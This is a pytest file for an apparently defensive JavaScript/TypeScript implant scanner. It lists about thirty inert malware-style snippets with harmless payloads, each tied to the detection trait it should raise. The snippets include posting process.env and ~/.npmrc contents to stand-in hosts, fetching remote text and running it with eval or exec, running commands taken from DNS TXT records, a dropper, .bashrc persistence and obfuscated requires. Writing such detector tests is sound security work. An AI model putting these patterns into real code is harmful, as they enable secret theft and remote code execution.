# ruff: noqa: E501, ISC004 - snippets are cut at their own line ends
"""Inert implants in JavaScript and TypeScript, each in another style. Never run: only parsed."""

from __future__ import annotations

import pytest

from doorward.inspect.probes.javascript import analyse_javascript

IMPLANTS = {
    "eval of base64": (
        "eval(Buffer.from('Y29uc29sZQ==', 'base64').toString())",
        "script.dataflow decoded-to-dynamic-code",
    ),
    "Function of atob": (
        "const f = new Function(atob('cmV0dXJuIDE=')); f();",
        "script.dataflow decoded-to-dynamic-code",
    ),
    "xor over char codes": (
        """
        function plain(s, k) { let out = ''; for (let i = 0; i < s.length; i++) {
          out += String.fromCharCode(s.charCodeAt(i) ^ k.charCodeAt(i % k.length)); } return out; }
        module.exports = function init() { (0, eval)(plain('abc', 'k')); new Function(plain('x', 'y'))(); };
        """,
        "script.dataflow decoded-to-dynamic-code",
    ),
    "numbers to characters": (
        "const a = [99,111,110]; eval(String.fromCharCode(...a));",
        "script.dataflow decoded-to-dynamic-code",
    ),
    "vm with inflated text": (
        "import vm from 'node:vm'; import { inflateSync as open } from 'zlib';\n"
        "export function go(b) { vm.runInThisContext(open(b).toString()); }",
        "script.dataflow decoded-to-dynamic-code",
    ),
    "module compile": (
        "const M = require('module'); const m = new M('x'); const c = require('crypto');\n"
        "function run(d){ const k = c.createDecipheriv('aes-256-cbc', K, I); "
        "m._compile(k.update(d) + '', 'x'); }",
        "script.combination decode+dynamic-code",
    ),
    "callbacks over https": (
        """
        const https = require('https');
        function pull(u) { https.get(u, (res) => { let body = ''; res.on('data', (d) => { body += d; });
          res.on('end', () => { eval(body); }); }); }
        """,
        "script.dataflow network-to-dynamic-code",
    ),
    "fetch, then Function": (
        "async function boot() { const r = await fetch('https://cdn.example/a.js'); const t = "
        "await r.text(); Function(t)(); }",
        "script.dataflow network-to-dynamic-code",
    ),
    "promise chain to a process": (
        "const { exec: run } = require('child_process');\n"
        "fetch('https://c.example').then(r => r.text()).then(line => run(line)).catch(() => {});",
        "script.dataflow network-to-process",
    ),
    "TXT records as commands": (
        "const dns = require('dns'); const cp = require('child_process');\n"
        "exports.poll = (z) => dns.resolveTxt(z, (e, rows) => { for (const row of rows) "
        "cp.execSync(row.join('')); });",
        "script.dataflow dns-to-process",
    ),
    "environment posted": (
        "const axios = require('axios');\n"
        "function note() { return axios.post('https://s.example', JSON.stringify(process.env)); }",
        "script.dataflow secret-to-network",
    ),
    "environment by entries": (
        """
        import https from 'https';
        export function stat() { const all = Object.entries(process.env).map(([k, v]) => k + '=' + v).join('&');
          const q = https.request({ host: 's.example', method: 'POST' }); q.write(all); q.end(); }
        """,
        "script.combination environment-bulk+network",
    ),
    "npm token": (
        "const fs = require('fs'), os = require('os'), path = require('path'), http = require('http');\n"
        "function t() { const s = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8'); "
        "http.get('http://s.example/?' + s); }",
        "script.combination credentials+network",
    ),
    "host name in a label": (
        "const { hostname } = require('os'); const { lookup } = require('dns');\n"
        "function b() { lookup(Buffer.from(hostname()).toString('hex') + '.t.example', () => {}); }",
        "script.dataflow host-to-dns",
    ),
    "decoded host": (
        "const net = require('net'); function c() { return net.connect(443, "
        "Buffer.from('aC5leGFtcGxl','base64').toString()); }",
        "script.dataflow decoded-to-network",
    ),
    "decoded command": (
        "require('child_process').exec(Buffer.from('6c73', 'hex').toString());",
        "script.dataflow decoded-to-process",
    ),
    "module name in pieces": (
        "const c = require('child' + '_pro' + 'cess'); c.spawn('sh', ['-c', 'true'], { "
        "detached: true, stdio: 'ignore' }).unref();",
        "script.concealment computed-import",
    ),
    "module name joined": (
        "const n = require(['h', 't', 't', 'p'].join('')); n.get('http://x.example');",
        "script.concealment computed-import",
    ),
    "member name in pieces": (
        "globalThis['ev' + 'al']('1');",
        "script.concealment computed-name",
    ),
    "member name in escapes": (
        "globalThis['\\x65\\x76\\x61\\x6c']('1');",
        "script.concealment computed-name",
    ),
    "constructor of a function": (
        "(() => {}).constructor('return process')().mainModule;",
        "script.concealment constructor-call",
    ),
    "constructor by subscript": (
        "[]['filter']['constructor']('return this')();",
        "script.concealment constructor-call",
    ),
    "computed require": (
        "function load(p) { return require(Buffer.from(p, 'base64').toString()); }",
        "script.dataflow decoded-to-import",
    ),
    "dropper": (
        """
        const fs = require('fs'), https = require('https'), { spawn } = require('child_process');
        function drop(u) { https.get(u, r => { const f = fs.createWriteStream('/tmp/.x'); r.pipe(f);
          f.on('close', () => { fs.chmodSync('/tmp/.x', 0o755); spawn('/tmp/.x', { detached: true }); }); }); }
        """,
        "script.combination filesystem-write+make-executable+process",
    ),
    "after a date": (
        "function d() { if (Date.now() > 1798761600000) { eval(atob('MQ==')); } }",
        "script.combination dynamic-code+time-trigger",
    ),
    "shell profile": (
        "const fs = require('fs'), os = require('os'); function s() { "
        "fs.appendFileSync(os.homedir() + '/.bashrc', 'true\\n'); }",
        "script.combination filesystem-write+persistence",
    ),
    "web assembly from text": (
        "async function w() { await WebAssembly.instantiate(Buffer.from('AGFzbQ==', 'base64')); }",
        "script.dataflow decoded-to-native",
    ),
    "built-in module without require": (
        "const cp = process.getBuiltinModule('child_process'); cp.execSync('true');",
        "script.capability process",
    ),
    "timer with text": ("setTimeout('go()', 1);", "script.capability dynamic-code"),
}


@pytest.mark.parametrize("name", IMPLANTS)
def test_implant_shows(name: str) -> None:
    source, expected = IMPLANTS[name]
    assert expected in {f"{trait.kind} {trait.key}" for trait in analyse_javascript(source)}


@pytest.mark.parametrize("name", IMPLANTS)
def test_implant_shows_at_the_end_of_a_bundle(name: str) -> None:
    source, expected = IMPLANTS[name]
    if "import " in source.split("require")[0]:
        pytest.skip("static imports cannot stand inside a function")
    bundle = (
        "!function(e,t){"
        + "".join(f"var v{n}=function(a){{return a+{n}}};" for n in range(4000))
        + source
        + "}(this);"
    )
    shown = {f"{trait.kind} {trait.key}" for trait in analyse_javascript(bundle)}
    assert expected in shown


def test_typescript_is_read_in_its_own_dialect() -> None:
    source = (
        "import { exec } from 'node:child_process';\n"
        "export async function go(u: string): Promise<void> { const t: string = await (await "
        "fetch(u)).text(); exec(t); }\n"
    )
    shown = {f"{trait.kind} {trait.key}" for trait in analyse_javascript(source, "typescript")}
    assert "script.dataflow network-to-process" in shown
